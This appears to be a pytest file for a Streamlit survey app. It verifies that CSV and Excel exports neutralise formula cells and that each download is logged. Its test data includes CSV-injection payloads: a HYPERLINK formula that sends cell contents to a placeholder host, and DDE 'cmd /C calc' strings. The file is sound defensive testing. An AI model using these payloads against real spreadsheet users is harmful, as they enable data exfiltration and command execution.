"""The one safe writer: no formula cells in any CSV or Excel file the app makes; every download logged."""

from __future__ import annotations

import csv
import io

import pytest
import streamlit

from surveys import accounts, downloads
from surveys.storage import audit_entries, open_database
from tests.conftest import actor_in

# Payloads from OWASP's CSV injection page and from real spreadsheet attacks.
FORMULAS = [
    "=HYPERLINK(\"http://x.example/?\"&A1, \"Click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def formula_cells(name: str, data: bytes) -> list[str]:
    """Return every cell of a downloaded file that a spreadsheet could run as a formula."""
    if name.endswith(".xlsx"):
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(data))
        return [str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f" or (isinstance(cell.value, str)
                                             and cell.value.lstrip(" ").startswith(downloads.FORMULA_STARTS))]
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.lstrip(" ").startswith(downloads.FORMULA_STARTS) and not is_number(cell)]


def is_number(cell: str) -> bool:
    """Return True for a plain number such as -5: a spreadsheet reads it as a number, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell


def test_neutralise_defuses_every_formula_start_and_leaves_the_rest():
    assert [downloads.neutralise(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [downloads.neutralise(v) for v in ("Hello", "", "5", 3, -5, None, "a=b", "(skipped)")] == \
        ["Hello", "", "5", 3, -5, None, "a=b", "(skipped)"]


@pytest.mark.parametrize("name", ["table.csv", "table.xlsx"])
def test_files_have_no_formula_cells_and_keep_numbers(name):
    header = ["=name", "value", "count"]
    rows = [[f, f, -5] for f in FORMULAS] + [[None, float("nan"), 2.5]]
    data = downloads.table_bytes(name, header, rows)
    assert formula_cells(name, data) == []
    if name.endswith(".csv"):
        assert data.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so Excel reads the file as UTF-8"
        parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert parsed[0] == ["'=name", "value", "count"]
        assert parsed[-1] == ["", "", "2.5"], "no None or nan in a cell"
        assert parsed[1][2] == "-5"
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(data)).active
        assert sheet.cell(2, 3).value == -5 and sheet.cell(2, 3).data_type == "n"
        assert sheet.cell(2, 1).value == "'" + FORMULAS[0]


def test_frame_table_reads_a_data_frame():
    import pandas as pd

    frame = pd.DataFrame({"Answer": ["=1+1", "fine"], "Words": [3, None]})
    header, rows = downloads.frame_table(frame)
    assert header == ["Answer", "Words"]
    assert formula_cells("t.csv", downloads.csv_bytes(header, rows)) == []


def test_logged_download_logs_each_click_and_checks_the_account_again(tmp_path):
    path = tmp_path / "surveys.db"
    db = open_database(path)
    first = accounts.create_account(db, "first-admin", "a long password", "admin", "First",
                                    accounts.command_line_actor(db))
    account_id = accounts.create_account(db, "sam-admin", "a long password", "admin", "Sam",
                                         accounts.actor_for_account(db, first))
    sam = accounts.actor_for_account(db, account_id)
    make = downloads.logged_download(path, sam, "a test table", "t.csv",
                                     lambda: downloads.csv_bytes(["a"], [["=1"]]), rows=1, roles=("admin",))
    assert formula_cells("t.csv", make()) == []
    make()
    logged = audit_entries(db, action=downloads.DOWNLOAD_ACTION)
    assert [(e["actor"], e["new_value"]) for e in logged] == [
        ("Sam", '{"file": "t.csv", "rows": 1, "what": "a test table"}')] * 2
    accounts.disable_account(db, account_id, accounts.actor_for_account(db, first))
    with pytest.raises(accounts.NotAllowed):
        make()
    assert len(audit_entries(db, action=downloads.DOWNLOAD_ACTION)) == 2, "a refused download is not logged"
    assert first
    db.conn.close()


def capture_downloads(monkeypatch) -> list[dict]:
    """Record every st.download_button the pages draw (AppTest cannot click one)."""
    seen: list[dict] = []
    original = streamlit.download_button

    def recording(label, data=None, file_name=None, *args, **kwargs):
        seen.append({"label": label, "data": data, "file_name": file_name, "key": kwargs.get("key")})
        return original(label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recording)
    return seen


def test_every_admin_download_is_safe_and_logged(app_test, demo_db_path, monkeypatch):
    seen = capture_downloads(monkeypatch)
    db = open_database(demo_db_path)
    # A person whose name is a formula: it reaches the log, the answers and the downloads.
    accounts.create_account(db, "formula-person", "a long password", "interviewer", "=HYPERLINK(\"x\")",
                            actor_in(db, "admin", "=cmd|x"))
    version_id = db.execute("SELECT id FROM survey_version ORDER BY number DESC LIMIT 1").fetchone()[0]
    db.execute("UPDATE interview SET respondent_code = '=cmd|calc' WHERE rowid = (SELECT MIN(rowid) FROM interview "
               "WHERE version_id = ?)", [version_id])
    db.conn.close()
    at = app_test(demo_db_path, "admin")
    at.selectbox(key="admin_transfer_answers_version").set_value(version_id).run()
    for kind in ("Excel", "Plain table"):
        at.radio(key="admin_transfer_answers_kind").set_value(kind).run()
        at.button(key="admin_transfer_answers_export").click().run()
    at.button(key="admin_transfer_form_export").click().run()
    at.button(key="admin_transfer_backup_make").click().run()
    assert not at.exception and not at.error
    latest = {d["key"]: d for d in seen}
    assert set(latest) >= {"admin_audit_download", "admin_transfer_answers_download_0",
                           "admin_transfer_answers_download_1", "admin_transfer_form_download",
                           "admin_transfer_backup_download"}
    spreadsheets = 0
    for download in latest.values():
        assert callable(download["data"]), f"{download['key']} must be made and logged when clicked"
        data = download["data"]()
        if download["file_name"].endswith((".csv", ".xlsx")):
            spreadsheets += 1
            assert formula_cells(download["file_name"], data) == [], download["key"]
    assert spreadsheets >= 3
    db = open_database(demo_db_path)
    logged = [e["new_value"] for e in audit_entries(db, action=downloads.DOWNLOAD_ACTION)]
    db.conn.close()
    assert len(logged) == len(latest)
    for download in latest.values():
        assert sum(f'"file": "{download["file_name"]}"' in entry for entry in logged) >= 1
